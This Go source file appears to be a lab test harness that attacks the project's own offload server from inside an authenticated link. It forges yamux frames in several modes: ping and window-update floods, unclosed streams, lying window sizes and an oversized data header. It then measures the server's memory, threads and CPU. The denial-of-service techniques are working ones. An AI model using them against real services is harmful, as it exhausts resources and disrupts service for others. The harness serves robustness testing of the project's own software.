// Command peerattack is a client that holds the key and attacks an offload
// server's yamux layer from inside the link (docs/lab/attacks.md):
// it runs handshake.Client and record.New like a genuine client, then
// writes yamux frames by hand, and prints the server's resident memory
// (VmRSS from /proc/PID/status, Linux) and thread count as it goes.
//
// Against a server built from this tree (go build -o offload ./cmd/offload,
// offload keygen -o offload.key), with a sink target that never reads:
//
//	go run ./harness/peerattack -mode targets        # prints "sink:" and "echo:" lines for the server's services:
//	offload server -c server.yaml &                  # listen: 127.0.0.1:17000, those services, defaults otherwise
//	go run ./harness/peerattack -addr 127.0.0.1:17000 -key offload.key -pid $(pidof offload) -mode ping -d 15s
//
// Modes:
//
//	ping       yamux pings, 4,096 per write, never reading the replies
//	stray      window updates for a stream that does not exist, 4,096 per write
//	syn        -n streams opened to -service (SYN, then the service request), never closed
//	halfclose  the same, each half-closed (FIN) after its request
//	winlie     the same, each with a window update of 2^31 (a window that lies)
//	huge       one stream, then a data frame header claiming 2^31 bytes, then 1 MiB writes
//	frames     one stray window update per record frame; prints the server's CPU per frame
//	targets    no attack: run a sink (accepts, never reads) and an echo target on
//	           loopback, print them as services: lines, and serve until killed
//
// Output: "start rss R threads T", then every second "rss R threads T link
// err E" (E is the record layer's error once the server has cut the link,
// <nil> while it is up), "sent N rss ..." when the attack ends (N counts
// frames for ping, stray and frames, streams for syn, halfclose and
// winlie, 1 MiB writes for huge), and "end rss ... link
// err E" 3 s later. Without -pid the rss fields read "-". frames prints
// "frames sealed F, rekeys K, server cpu C ticks, U us/frame" (ticks of
// 10 ms, Linux's USER_HZ). For tests on your own machine only.
package main

import (
	"context"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"time"

	"github.com/offload-dev/offload/config"
	"github.com/offload-dev/offload/internal/testutil"
	"github.com/offload-dev/offload/tunnel/handshake"
	"github.com/offload-dev/offload/tunnel/record"
	"github.com/offload-dev/offload/tunnel/suite"
)

var (
	addr    = flag.String("addr", "", "server address (host:port)")
	keyf    = flag.String("key", "", "key file the server accepts")
	pid     = flag.Int("pid", 0, "server process to report VmRSS and threads of (0: none)")
	mode    = flag.String("mode", "ping", "ping|stray|syn|halfclose|winlie|huge|frames|targets")
	dur     = flag.Duration("d", 5*time.Second, "attack duration")
	service = flag.String("service", "sink", "service the streams ask for (syn, halfclose, winlie)")
	streams = flag.Int("n", 2000, "streams (syn, halfclose, winlie)")
	rekey   = flag.Uint64("rekey", 0, "record RekeyFrames of this end (0: the default)")
)

// request is the stream protocol's service request (tunnel/stream/proto.go,
// AppendRequest): version 2, kind 1 (service), name length (u16), name.
func request(svc string) []byte {
	b := binary.BigEndian.AppendUint16([]byte{2, 1}, uint16(len(svc)))
	return append(b, svc...)
}

func main() {
	flag.Parse()
	var err error
	if *mode == "targets" {
		err = targets(os.Stdout)
	} else {
		err = attack()
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "peerattack:", err)
		os.Exit(2)
	}
}

// rss is the server's VmRSS and thread count for printing, "-" without
// -pid.
func rss() string {
	if *pid == 0 {
		return "-"
	}
	st, err := readStatus(*pid)
	if err != nil {
		return fmt.Sprintf("? (%v)", err)
	}
	return st.RSS + " threads " + st.Threads
}

func attack() error {
	switch *mode {
	case "ping", "stray", "syn", "halfclose", "winlie", "huge", "frames":
	default:
		return fmt.Errorf("unknown -mode %q", *mode)
	}
	if *addr == "" || *keyf == "" {
		return errors.New("-addr and -key are needed (see go doc ./harness/peerattack)")
	}
	if *mode == "frames" && *pid == 0 {
		return errors.New("-mode frames measures the server's CPU: give -pid")
	}
	if len(*service) == 0 || len(*service) > 255 {
		return fmt.Errorf("-service %q: want 1..255 bytes", *service)
	}
	psk, err := config.LoadKey(*keyf)
	if err != nil {
		return err
	}
	c, err := net.Dial("tcp", *addr)
	if err != nil {
		return err
	}
	defer c.Close()
	keys, err := handshake.Client(context.Background(), c, handshake.Config{Suite: suite.Default, PSK: psk})
	if err != nil {
		return fmt.Errorf("handshake: %w", err)
	}
	rc, err := record.New(c, keys, suite.Default, record.Options{RekeyFrames: *rekey})
	keys.Wipe()
	if err != nil {
		return fmt.Errorf("record layer: %w", err)
	}
	defer rc.Close()
	// Nothing reads from rc: the attacks never read what the server sends
	// (ping replies, window updates), as a hostile peer need not.

	fmt.Println("start rss", rss())
	end := time.Now().Add(*dur)
	go func() {
		for {
			time.Sleep(time.Second)
			fmt.Println("rss", rss(), "link err", rc.Err())
		}
	}()
	write := func(b []byte) bool {
		if err := rc.SetWriteDeadline(end); err != nil {
			fmt.Println("write deadline:", err)
			return false
		}
		if _, err := rc.Write(b); err != nil {
			fmt.Println("write:", err)
			return false
		}
		return true
	}
	var b []byte
	id := uint32(1)
	sent := 0
	switch *mode {
	case "ping":
		for time.Now().Before(end) {
			b = b[:0]
			for range 4096 {
				b = testutil.YamuxHeader(b, testutil.YamuxPing, testutil.YamuxSYN, 0, id)
				id++
			}
			if !write(b) {
				break
			}
			sent += 4096
		}
	case "stray":
		for time.Now().Before(end) {
			b = b[:0]
			for range 4096 {
				b = testutil.YamuxHeader(b, testutil.YamuxWindowUpdate, 0, 100001, 1)
			}
			if !write(b) {
				break
			}
			sent += 4096
		}
	case "syn", "halfclose", "winlie":
		req := request(*service)
		for i := 0; i < *streams && time.Now().Before(end); i++ {
			b = testutil.YamuxHeader(b[:0], testutil.YamuxWindowUpdate, testutil.YamuxSYN, id, 0)
			if *mode == "winlie" {
				b = testutil.YamuxHeader(b, testutil.YamuxWindowUpdate, 0, id, 1<<31)
			}
			b = testutil.YamuxHeader(b, testutil.YamuxData, 0, id, uint32(len(req)))
			b = append(b, req...)
			if *mode == "halfclose" {
				b = testutil.YamuxHeader(b, testutil.YamuxWindowUpdate, testutil.YamuxFIN, id, 0)
			}
			if !write(b) {
				break
			}
			id += 2
			sent++
		}
	case "frames":
		cpu0, err := procCPU(*pid)
		if err != nil {
			return err
		}
		one := testutil.YamuxHeader(nil, testutil.YamuxWindowUpdate, 0, 100001, 1)
		for time.Now().Before(end) {
			if _, err := rc.Write(one); err != nil {
				fmt.Println("write:", err)
				break
			}
			sent++
		}
		time.Sleep(time.Second)
		cpu1, err := procCPU(*pid)
		if err != nil {
			return err
		}
		st := rc.Stats()
		fr := st.Frames[0][0].Load()
		d := cpu1 - cpu0
		fmt.Printf("frames sealed %d, rekeys %d, server cpu %d ticks, %.2f us/frame\n", fr, st.Rekeys[0].Load(), d, float64(d)*10000/float64(max(fr, 1)))
	case "huge":
		b = testutil.YamuxHeader(b, testutil.YamuxWindowUpdate, testutil.YamuxSYN, id, 0)
		b = testutil.YamuxHeader(b, testutil.YamuxData, 0, id, 1<<31)
		if write(b) {
			big := make([]byte, 1<<20)
			for time.Now().Before(end) && write(big) {
				sent++
			}
		}
	}
	fmt.Println("sent", sent, "rss", rss())
	time.Sleep(time.Until(end.Add(3 * time.Second)))
	fmt.Println("end rss", rss(), "link err", rc.Err())
	return nil
}

// targets runs a sink that accepts and never reads and an echo target on
// loopback, prints them as the server's services: lines, and serves until
// killed.
func targets(w io.Writer) error {
	sink, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	echo, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	if _, err := fmt.Fprintf(w, "  sink: %s\n  echo: %s\n", sink.Addr(), echo.Addr()); err != nil {
		return err
	}
	errc := make(chan error, 2)
	go func() {
		for {
			c, err := echo.Accept()
			if err != nil {
				errc <- fmt.Errorf("echo: %w", err)
				return
			}
			go func() {
				defer c.Close()
				_, _ = io.Copy(c, c) // ends when either side does; nothing to report
			}()
		}
	}()
	go func() {
		var held []net.Conn // never read, never closed
		for {
			c, err := sink.Accept()
			if err != nil {
				for _, c := range held {
					c.Close()
				}
				errc <- fmt.Errorf("sink: %w", err)
				return
			}
			held = append(held, c)
		}
	}()
	return <-errc
}
